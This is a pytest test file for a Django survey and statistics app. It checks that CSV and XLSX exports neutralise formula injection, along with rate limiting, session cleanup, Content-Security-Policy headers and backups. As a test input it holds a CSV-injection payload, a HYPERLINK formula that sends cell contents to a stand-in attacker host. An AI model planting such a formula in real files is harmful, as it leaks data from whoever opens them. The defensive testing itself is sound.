"""Production hardening, as docs/security.md describes it: exports that are safe to open, limits
shared by every process, no session rows for anonymous visitors, production headers, backups."""

import datetime
import io
import os
import re
import secrets
import socket
import sqlite3
import subprocess
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path

import pytest
import redis
from django.contrib.sessions.backends.db import SessionStore
from django.contrib.sessions.models import Session
from django.core.management import call_command
from django.db import connection
from django.utils import timezone
from openpyxl import Workbook, load_workbook
from playwright.sync_api import expect

from chiso.accounts.models import Role
from chiso.core.safe_cells import csv_row, csv_value, csv_writer, formulas_as_text, is_formula_like, xlsx_row
from chiso.frameworks.documents import document_to_imeta_csv, document_to_xlsx
from chiso.surveys.collection.xlsform import xlsform_parse, xlsform_write
from chiso.surveys.models import Draft, Invitation
from chiso.units.exporting import units_workbook
from chiso.units.models import Period

ROOT = Path(__file__).resolve().parents[2]
SRC = ROOT / "src" / "chiso"
LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'


# --- exports: OWASP's CSV injection rule --------------------------------------------------------

@pytest.mark.parametrize("text", [LEAK, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "=", "-", "+84 912 345 678"])
def test_a_text_a_spreadsheet_could_run_is_written_as_text_in_csv(text):
    assert is_formula_like(text)
    assert csv_value(text) == "'" + text


@pytest.mark.parametrize("value", [-3, -2.5, 0, "-3", "-2.5", "-1,5", "+2.5e3", "-12%", "", "Sở Tài chính", " =1", "a=1", None])
def test_numbers_and_ordinary_texts_are_left_alone(value):
    assert csv_value(value) == value


def test_the_csv_writer_escapes_every_cell_of_every_row():
    buffer = io.StringIO()
    writer = csv_writer(buffer, lineterminator="\n")
    writer.writerow(["a", LEAK, -1])
    writer.writerows([["@x", "-2"], ["+x"]])
    assert buffer.getvalue().splitlines() == ['a,"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Bấm vào đây"")",-1', "'@x,-2", "'+x"]
    assert csv_row(["=1", 2]) == ["'=1", 2]


def test_xlsx_cells_starting_with_equals_are_text_in_both_kinds_of_workbook(tmp_path):
    streamed = Workbook(write_only=True)
    sheet = streamed.create_sheet("a")
    sheet.append(xlsx_row(sheet, [LEAK, "-x", -3, "=1+1"]))
    streamed.save(tmp_path / "streamed.xlsx")
    ordinary = Workbook()
    ordinary.active.append([LEAK, "-x", -3])
    ordinary.active.cell(row=2, column=1, value="=1+1")
    formulas_as_text(ordinary)
    ordinary.save(tmp_path / "ordinary.xlsx")
    for name in ("streamed.xlsx", "ordinary.xlsx"):
        cells = [c for row in load_workbook(tmp_path / name).worksheets[0].iter_rows() for c in row if c.value is not None]
        assert [(c.value, c.data_type) for c in cells][:3] == [(LEAK, "s"), ("-x", "s"), (-3, "n")]
        assert ("=1+1", "s") in [(c.value, c.data_type) for c in cells]


WRITERS = re.compile(r"csv\.(writer|DictWriter)\(|Workbook\(")
# Files a person never opens as an export: demo inputs, an uploaded form's trimmed copy for pyxform,
# and the engine's own command (no Django; its files are its user's own data).
NOT_EXPORTS = {"core/safe_cells.py", "core/tabular.py", "services_stats/demo.py", "surveys/demo_operation.py"}


def test_every_module_that_writes_csv_or_xlsx_goes_through_safe_cells():
    unguarded = []
    for path in SRC.rglob("*.py"):
        relative = path.relative_to(SRC).as_posix()
        if relative.startswith("engine/") or relative in NOT_EXPORTS:
            continue
        text = path.read_text(encoding="utf-8")
        if WRITERS.search(text) and "chiso.core.safe_cells" not in text:
            unguarded.append(relative)
    assert unguarded == []


def test_the_units_workbook_writes_a_name_starting_with_equals_as_text(make_unit):
    make_unit("S-A", name_vi=LEAK)
    make_unit("S-B", name_vi="-Sở thử")
    book = load_workbook(io.BytesIO(units_workbook()))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert {LEAK, "-Sở thử"} <= {c.value for c in cells if c.data_type == "s"}


def test_framework_exports_write_formula_like_names_as_text():
    doc = {
        "framework": {"code": "T", "name_vi": "=1+1"},
        "version": {"label": "thử"},
        "steps": [],
        "iMeta": [
            {"iCode": "T", "Level": 2, "Type": "Aggregate", "name_vi": LEAK},
            {"iCode": "i1", "Level": 1, "Parent": "T", "Type": "Indicator", "Direction": -1, "Weight": 1, "name_vi": "@x"},
        ],
    }
    text = document_to_imeta_csv(doc).decode("utf-8")
    assert "'=HYPERLINK" in text and "'@x" in text and ",-1," in text  # the direction stays -1
    book = load_workbook(io.BytesIO(document_to_xlsx(doc)))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert LEAK in {c.value for c in cells if c.data_type == "s"}


def test_the_xlsform_download_writes_a_label_starting_with_equals_as_text(blocks):
    examples = Path(__file__).resolve().parents[2] / "docs" / "examples"
    survey = xlsform_parse("ddci_communes.xlsx", (examples / "ddci_communes.xlsx").read_bytes()).survey
    first = next(child for child in survey["children"] if child.get("label"))
    label = first["label"]
    first["label"] = {lang: LEAK for lang in label} if isinstance(label, dict) else LEAK
    book = load_workbook(io.BytesIO(xlsform_write(survey)))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert LEAK in {c.value for c in cells if c.data_type == "s"}


# --- limits: one count for every process, the address read behind trusted proxies only -----------

from django.test import Client, RequestFactory  # noqa: E402

from chiso.core import ratelimit  # noqa: E402
from tests.surveys.conftest import ddci_version, departments, make_survey  # noqa: E402,F401 (fixtures)


def _request(remote="203.0.113.5", forwarded=None):
    extra = {"REMOTE_ADDR": remote}
    if forwarded is not None:
        extra["HTTP_X_FORWARDED_FOR"] = forwarded
    return RequestFactory().get("/", **extra)


def test_forwarded_for_counts_only_behind_the_configured_proxies(settings):
    settings.CHISO_TRUSTED_PROXIES = 0
    assert ratelimit.client_address(_request(forwarded="198.51.100.1")) == "203.0.113.5"  # no proxy: ignored
    settings.CHISO_TRUSTED_PROXIES = 1
    # nginx appends what it saw; whatever the client wrote lies to the left and is not read
    assert ratelimit.client_address(_request("10.0.0.2", "1.2.3.4, 198.51.100.1")) == "198.51.100.1"
    assert ratelimit.client_address(_request("10.0.0.2")) == "10.0.0.2"
    assert ratelimit.client_address(_request("10.0.0.2", "not-an-address")) == "10.0.0.2"
    settings.CHISO_TRUSTED_PROXIES = 2
    assert ratelimit.client_address(_request("10.0.0.3", "1.2.3.4, 198.51.100.1, 10.0.0.2")) == "198.51.100.1"


def test_ipv6_addresses_count_per_network_of_64():
    first = ratelimit.client_address(_request("2001:db8:1:2::1"))
    assert first == ratelimit.client_address(_request("2001:db8:1:2:ffff::9")) == "2001:db8:1:2::/64"
    assert ratelimit.client_address(_request("::ffff:203.0.113.5")) == "203.0.113.5"


def test_rates_are_read_as_the_readme_writes_them():
    assert ratelimit.parse_rate("120/m") == (120, 60)
    assert ratelimit.parse_rate("30/h") == (30, 3600) and ratelimit.parse_rate("30/5m") == (30, 300)
    with pytest.raises(ValueError):
        ratelimit.parse_rate("120 per minute")


@pytest.mark.django_db
def test_a_made_up_forwarded_for_does_not_buy_a_fresh_api_limit(settings):
    settings.CHISO_API_ANON_RATE = "5/m"
    settings.CHISO_TRUSTED_PROXIES = 0
    client = Client(REMOTE_ADDR="203.0.113.50")
    codes = [client.get("/api/v1/periods", HTTP_X_FORWARDED_FOR=f"198.51.100.{i}").status_code for i in range(20)]
    assert codes == [200] * 5 + [429] * 15
    settings.CHISO_TRUSTED_PROXIES = 1  # behind one proxy, the proxy's own entry (the last) counts
    proxy = Client(REMOTE_ADDR="10.0.0.2")
    codes = [proxy.get("/api/v1/periods", HTTP_X_FORWARDED_FOR=f"198.51.100.{i}, 203.0.113.60").status_code for i in range(8)]
    assert codes == [200] * 5 + [429] * 3


@pytest.mark.django_db
def test_a_cache_that_cannot_be_reached_refuses_nobody(settings, monkeypatch, caplog):
    def broken(*args, **kwargs):
        raise ConnectionError("no cache server")

    monkeypatch.setattr(ratelimit.cache, "add", broken)
    assert ratelimit.hit("test", "x", [(0, 60)]) is False
    assert "cannot be reached" in caplog.text


@pytest.mark.django_db
def test_open_links_start_a_limited_number_of_drafts_per_address(settings, make_survey, ddci_version, departments):
    settings.CHISO_SURVEY_OPEN_RATE = "3/h"
    survey = make_survey(ddci_version, open_link=True)
    codes = [Client(REMOTE_ADDR="203.0.113.70").get(f"/s/open/{survey.open_key}/").status_code for _ in range(6)]
    assert codes == [302] * 3 + [429] * 3 and Draft.objects.filter(survey=survey).count() == 3
    refused = Client(REMOTE_ADDR="203.0.113.70").get(f"/s/open/{survey.open_key}/")
    assert "Có quá nhiều phiếu mới" in refused.content.decode()
    returning = Client(REMOTE_ADDR="203.0.113.71")
    returning.get(f"/s/open/{survey.open_key}/")
    assert all(returning.get(f"/s/open/{survey.open_key}/").status_code == 302 for _ in range(5))  # its own draft again
    assert Draft.objects.filter(survey=survey).count() == 4


# Two server processes (gunicorn, as in production) against one cache: the file cache of the
# embedded default, and Redis when one answers (CHISO_CACHE_URL, or 127.0.0.1:6379; .ci/run starts one).
REDIS_URL = os.environ.get("CHISO_CACHE_URL", "") if os.environ.get("CHISO_CACHE_URL", "").startswith("redis") else "redis://127.0.0.1:6379/15"


def _redis_answers(url: str) -> bool:
    try:
        return bool(redis.Redis.from_url(url, socket_connect_timeout=1).ping())
    except Exception:  # noqa: BLE001 — no server: the Redis case is skipped
        return False


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _database_for_other_processes(tmp_path) -> str:
    """A DATABASE_URL other processes can open: the test database itself on PostgreSQL, a copy
    of the (in-memory) test database on SQLite."""
    if connection.vendor == "sqlite":
        connection.ensure_connection()
        target = sqlite3.connect(tmp_path / "copy.sqlite3")
        connection.connection.backup(target)
        target.close()
        return f"sqlite:///{tmp_path / 'copy.sqlite3'}"
    settings_dict = connection.settings_dict
    return (f"postgres://{settings_dict['USER']}:{settings_dict['PASSWORD']}@{settings_dict['HOST'] or '127.0.0.1'}:"
            f"{settings_dict['PORT'] or 5432}/{settings_dict['NAME']}")


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("kind", ["file", "redis"])
def test_two_server_processes_share_one_limit(kind, tmp_path):
    if kind == "redis" and not _redis_answers(REDIS_URL):
        pytest.skip("no Redis answers at " + REDIS_URL)
    cache_url = REDIS_URL if kind == "redis" else f"file://{tmp_path / 'cache'}"
    env = {k: v for k, v in os.environ.items() if not k.startswith(("CHISO_", "PYTEST", "DATABASE_URL"))}
    env.update(
        PYTHONPATH=str(ROOT / "src"), CHISO_SECRET_KEY=secrets.token_urlsafe(40), CHISO_DEBUG="1",
        CHISO_VAR_DIR=str(tmp_path / "var"), DATABASE_URL=_database_for_other_processes(tmp_path),
        CHISO_CACHE_URL=cache_url, CHISO_API_ANON_RATE="6/m", CHISO_LOG_LEVEL="ERROR",
    )
    ports = [_free_port(), _free_port()]
    servers = [
        subprocess.Popen([str(Path(sys.executable).parent / "gunicorn"), "chiso.wsgi", "--bind", f"127.0.0.1:{port}", "--workers", "1"],
                         env=env, cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
        for port in ports
    ]
    try:
        for port in ports:
            _wait_for(port)
        codes = []
        for i in range(12):  # alternately to each process
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{ports[i % 2]}/api/v1/periods", timeout=30) as answer:
                    codes.append(answer.status)
            except urllib.error.HTTPError as error:
                codes.append(error.code)
        assert codes == [200] * 6 + [429] * 6  # one limit of 6, not 6 per process
    finally:
        for server in servers:
            server.terminate()
            server.wait(timeout=30)


def _wait_for(port: int) -> None:
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=1):
                return
        except OSError:
            time.sleep(0.3)
    raise AssertionError(f"no server on port {port}")


# --- housekeeping: expired sessions and unreachable drafts are cleared daily -------------------------

@pytest.mark.django_db
def test_housekeeping_clears_expired_sessions_and_drafts_nobody_can_open(make_survey, ddci_version, departments):
    now = timezone.now()
    for key, expiry in (("expired", now - datetime.timedelta(seconds=1)), ("current", now + datetime.timedelta(hours=1))):
        Session.objects.create(session_key=key * 4, session_data=SessionStore().encode({}), expire_date=expiry)
    survey = make_survey(ddci_version, open_link=True)
    closed = make_survey(ddci_version, opens=-90, closes=-31)

    def draft(key, survey, hours_ago, invitation=None):
        made = Draft.objects.create(key=key, survey=survey, version=survey.version, invitation=invitation)
        Draft.objects.filter(pk=made.pk).update(updated_at=now - datetime.timedelta(hours=hours_ago))

    draft("open-old", survey, 11)  # its cookie (10 h) is gone: nobody can open it
    draft("open-fresh", survey, 1)
    draft("invited-open", survey, 500, Invitation.objects.create(survey=survey, token_hash="a" * 64))
    draft("invited-closed", closed, 500, Invitation.objects.create(survey=closed, token_hash="b" * 64))
    out = io.StringIO()
    call_command("housekeeping", stdout=out)
    assert list(Session.objects.values_list("session_key", flat=True)) == ["current" * 4]
    assert sorted(Draft.objects.values_list("key", flat=True)) == ["invited-open", "open-fresh"]
    assert "sessions deleted: 1" in out.getvalue() and "drafts deleted: 2" in out.getvalue()
    assert Invitation.objects.count() == 2  # the invitations stay


@pytest.mark.django_db
def test_housekeeping_can_be_handed_to_the_worker():
    out = io.StringIO()
    call_command("housekeeping", "--enqueue", stdout=out)  # the tests' backend runs it at once
    assert out.getvalue().startswith("Queued as task ")


# --- production headers: Content-Security-Policy, HSTS and the HTTPS redirect ----------------------

TEMPLATES = sorted(SRC.rglob("templates/**/*.html"))
INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)(?![^>]*type=\"application/json\")[^>]*>", re.I)
INLINE_HANDLER = re.compile(r"<[a-z][^>]*\son[a-z]+\s*=\s*[\"']", re.I)  # onchange="…" inside a tag


def test_no_template_has_an_inline_script_or_handler():
    found = []
    for path in TEMPLATES:
        text = path.read_text(encoding="utf-8")
        found += [f"{path.relative_to(SRC)}: {m.group(0).strip()}" for m in INLINE_SCRIPT.finditer(text)]
        found += [f"{path.relative_to(SRC)}: {m.group(0).strip()}" for m in INLINE_HANDLER.finditer(text)]
    assert found == []


@pytest.mark.django_db
def test_pages_carry_a_policy_that_runs_only_our_own_scripts(client, make_user):
    client.force_login(make_user("thuky", Role.SECRETARIAT))
    for url in ("/", "/gopy/", "/api/v1/docs", "/accounts/login/"):
        policy = client.get(url)["Content-Security-Policy"]
        directives = dict(part.strip().split(" ", 1) for part in policy.split(";") if part.strip())
        assert directives["script-src"] == "'self'", url  # no 'unsafe-inline', no 'unsafe-eval'
        assert directives["object-src"] == "'none'" and directives["frame-ancestors"] == "'none'"
        assert directives["default-src"] == "'self'"


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_the_api_docs_and_a_page_switch_work_under_the_policy(page, login, make_user):
    """Swagger UI (served from django-ninja's own files) draws the API under the policy, and a
    select that submits its form on change does so through nav.js; the browser reports no
    violation of the policy."""
    violations = []
    page.on("console", lambda message: violations.append(message.text) if "Content Security Policy" in message.text else None)
    page.goto("/api/v1/docs", wait_until="domcontentloaded", timeout=60_000)  # a 1.4 MB script on a busy machine
    expect(page.locator(".swagger-ui .info .title")).to_contain_text("chiso API", timeout=60_000)
    expect(page.locator(".opblock").first).to_be_visible()
    for year in (2024, 2025):
        Period.objects.create(code=str(year), year=year, name_vi=f"Năm {year}", name_en=f"Year {year}",
                              start_date=datetime.date(year, 1, 1), end_date=datetime.date(year, 12, 31))
    make_user("thuky", Role.SECRETARIAT)
    login("thuky")
    page.select_option("#period-select", "2024")
    expect(page.locator("#period-select")).to_have_value("2024")
    page.reload()
    expect(page.locator("#period-select")).to_have_value("2024")  # the switch went to the server
    assert violations == []


# --- backups: README's recipe, run as written on PostgreSQL -----------------------------------------

def backup_recipe(*, source: str, restored: str, folder: Path, env: dict) -> None:
    """README.md, "Backups", step by step (PGHOST, PGPORT and PGUSER in `env` say where the server is)."""
    dump = folder / "chiso.dump"
    for command in (
        ["pg_dump", "-Fc", "-d", source, "-f", str(dump)],
        ["createdb", restored],
        ["pg_restore", "--no-owner", "-d", restored, str(dump)],
    ):
        result = subprocess.run(command, capture_output=True, text=True, env=env)
        assert result.returncode == 0, f"{' '.join(command)}: {result.stderr}"


def page_from(database_url: str, folder: Path, path: str) -> str:
    """One page served by a gunicorn process reading `database_url`."""
    env = {k: v for k, v in os.environ.items() if not k.startswith(("CHISO_", "PYTEST", "DATABASE_URL"))}
    env.update(PYTHONPATH=str(ROOT / "src"), CHISO_SECRET_KEY=secrets.token_urlsafe(40), CHISO_DEBUG="1",
               CHISO_VAR_DIR=str(folder / "var"), DATABASE_URL=database_url, CHISO_LOG_LEVEL="ERROR")
    port = _free_port()
    server = subprocess.Popen([str(Path(sys.executable).parent / "gunicorn"), "chiso.wsgi", "--bind", f"127.0.0.1:{port}", "--workers", "1"],
                              env=env, cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        _wait_for(port)
        with urllib.request.urlopen(f"http://127.0.0.1:{port}{path}", timeout=60) as answer:
            return answer.read().decode()
    finally:
        server.terminate()
        server.wait(timeout=30)


def postgres_env(settings_dict: dict) -> dict:
    env = dict(os.environ, PGHOST=settings_dict["HOST"] or "127.0.0.1", PGPORT=str(settings_dict["PORT"] or 5432),
               PGUSER=settings_dict["USER"] or "postgres")
    if settings_dict.get("PASSWORD"):
        env["PGPASSWORD"] = settings_dict["PASSWORD"]
    return env


@pytest.mark.django_db(transaction=True)
def test_the_readme_backup_recipe_restores_into_a_new_database_that_serves_pages(make_unit, tmp_path):
    if connection.vendor != "postgresql":
        pytest.skip("the backup recipe is for PostgreSQL (DATABASE_URL=postgres://…)")
    make_unit("S-SAOLUU", name_vi="Sở Sao lưu thử")
    settings_dict = connection.settings_dict
    env = postgres_env(settings_dict)
    restored = f"chiso_restore_test_{os.getpid()}_{secrets.token_hex(3)}"  # its own name: no other run collides
    try:
        backup_recipe(source=settings_dict["NAME"], restored=restored, folder=tmp_path, env=env)
        url = f"postgres://{env['PGUSER']}:{settings_dict.get('PASSWORD') or ''}@{env['PGHOST']}:{env['PGPORT']}/{restored}"
        assert "S-SAOLUU" in page_from(url, tmp_path, "/api/v1/units?page_size=1000")
    finally:
        subprocess.run(["dropdb", "--if-exists", restored], env=env, capture_output=True)
